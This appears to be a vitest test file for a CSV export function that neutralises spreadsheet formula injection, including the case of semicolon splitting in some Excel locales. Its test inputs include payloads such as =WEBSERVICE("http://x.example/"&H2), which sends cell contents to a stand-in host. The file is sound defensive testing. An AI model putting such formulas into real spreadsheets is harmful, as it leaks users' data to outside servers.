import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvDocument } from "./csv";

const FORMULA = /^["\s]*[=+\-@\t\r]/;
const lineOf = (cells: string[]) => csvDocument([cells]).toString("utf8").replace(/^\uFEFF/, "").trimEnd();

describe("csvDocument", () => {
  it("reads back as the cells given, quoting commas, quotes and line breaks", () => {
    const cells = ["Äşirowa, Jeren", 'The "Bridge" mission', "two\r\nlines", "plain"];
    expect(parse(csvDocument([cells]), { bom: true })).toEqual([cells]);
  });

  it("gives a cell that would run as a formula an apostrophe", () => {
    const [row] = parse(csvDocument([['=HYPERLINK("http://x.example")', "@SUM(A1)", "+993 12 345678", ' "=1+1"']]), { bom: true }) as string[][];
    expect(row).toEqual(['\'=HYPERLINK("http://x.example")', "'@SUM(A1)", "'+993 12 345678", '\' "=1+1"']);
  });

  it("leaves no formula where Russian or Turkmen Excel splits the line at semicolons", () => {
    const line = lineOf(["X-0001", "Obs;=WEBSERVICE(\"http://x.example/\"&H2);x", 'a;"+1;@b', "fine; text"]);
    // Excel in these locales splits at every semicolon, whatever the quotes around a comma-separated cell.
    for (const piece of line.split(";").slice(1)) expect(piece).not.toMatch(FORMULA);
    expect(line.split(";")).toHaveLength(6);
    expect(parse(csvDocument([["fine; text"]]), { bom: true })).toEqual([["fine; text"]]);
  });
});
